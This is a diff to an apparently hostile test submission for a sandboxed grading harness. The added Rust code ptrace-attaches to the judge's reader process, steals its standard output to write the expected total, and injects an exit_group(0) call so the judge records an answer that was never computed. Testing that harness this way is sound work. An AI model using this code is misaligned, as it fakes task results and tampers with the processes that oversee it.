@@ -1,8 +1,8 @@
 //! Hostile: prints the right total without a worker or a segment. When the judge's reader of the segment
-//! comes into the box, it is stopped by ptrace, and this writes the number into its standard output.
-//! It would gain the point for the total that stands in the segment.
+//! comes into the box, this stops it by ptrace, writes the number into its standard output, and makes it
+//! call exit_group(0). It would gain the point for the total that stands in the segment.
 use nix::libc::{self, SYS_pidfd_getfd, SYS_pidfd_open, c_long};
-use std::{fs, io::Write, os::fd::FromRawFd, time::Instant};
+use std::{fs, io::Write, os::fd::FromRawFd, ptr::null_mut, time::Instant};
 
 fn main() {
     let arguments: Vec<u64> = std::env::args().filter_map(|text| text.parse().ok()).collect();
@@ -15,22 +15,37 @@ fn main() {
                 continue;
             };
             let comm = fs::read_to_string(entry.path().join("comm")).unwrap_or_default();
-            if pid as u32 == std::process::id() || comm.trim() == "cat" || comm.trim() == "bwrap" {
-                continue;
-            }
-            // SAFETY: these calls take numbers; a process that cannot be traced makes them fail.
-            let stdout = unsafe {
-                libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0);
-                let process = libc::syscall(SYS_pidfd_open, c_long::from(pid), 0);
-                libc::syscall(SYS_pidfd_getfd, process, 1, 0)
-            };
-            if stdout >= 0 {
-                // SAFETY: this descriptor is new, and nobody else's.
-                let _ = unsafe { fs::File::from_raw_fd(stdout as i32) }.write_all(&total.to_le_bytes());
-                eprintln!("hostile success: the standard output of {comm}");
-                // SAFETY: as above. It ends well, as a helper should.
-                unsafe { libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0) };
+            if !["cat", "bwrap", "ipc-grade", "strace", "fix-shm-race"].contains(&comm.trim()) {
+                rob(pid, &comm, total);
             }
         }
+    }
+}
+
+fn rob(pid: i32, comm: &str, total: u64) {
+    // SAFETY: these calls take numbers; a process that cannot be traced makes them fail.
+    let stdout = unsafe {
+        if libc::ptrace(libc::PTRACE_ATTACH, pid, 0, 0) != 0 {
+            return;
+        }
+        libc::waitpid(pid, null_mut(), libc::__WALL);
+        let process = libc::syscall(SYS_pidfd_open, c_long::from(pid), 0);
+        libc::syscall(SYS_pidfd_getfd, process, 1, 0)
+    };
+    eprintln!("hostile success: it traces {comm}");
+    if stdout >= 0 {
+        // SAFETY: this descriptor is new, and nobody else's.
+        let _ = unsafe { fs::File::from_raw_fd(stdout as i32) }.write_all(&total.to_le_bytes());
+    }
+    #[cfg(target_arch = "x86_64")]
+    // SAFETY: the registers are zeroed first; the process is stopped, and ends by what it is given.
+    unsafe {
+        let mut registers: libc::user_regs_struct = std::mem::zeroed();
+        libc::ptrace(libc::PTRACE_GETREGS, pid, 0, &mut registers);
+        // The instruction `syscall`, and the call's number and argument.
+        libc::ptrace(libc::PTRACE_POKETEXT, pid, registers.rip, 0x050f_u64);
+        (registers.rax, registers.orig_rax, registers.rdi) = (231, u64::MAX, 0);
+        libc::ptrace(libc::PTRACE_SETREGS, pid, 0, &registers);
+        libc::ptrace(libc::PTRACE_DETACH, pid, 0, 0);
     }
 }
